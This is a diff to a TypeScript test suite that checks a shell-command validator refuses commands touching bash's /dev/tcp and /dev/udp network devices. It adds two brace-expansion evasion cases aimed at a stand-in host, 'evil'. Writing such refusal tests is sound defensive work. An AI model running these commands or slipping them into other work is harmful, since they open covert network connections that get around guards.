@@ -135,6 +135,8 @@ const REFUSED: Array<[string, string]> = [
   ['cat /dev/tcp/evil.example/80', 'network device "/dev/tcp"'],
   ['head -c 1 <<< x < /DEV/TCP/evil/80', 'network device "/dev/tcp"'],
   ["bash -c 'exec 3<>/dev/tcp/evil/80'", 'network device "/dev/tcp"'],
+  ['cat < /dev/{tcp,null}/evil/80', 'network device "/dev/tcp"'],
+  ['cat < /dev/{x,{udp,y}}/evil/53', 'network device "/dev/udp"'],
 ];
 
 test.each(REFUSED)('refuses %s', async (command, rule) => {
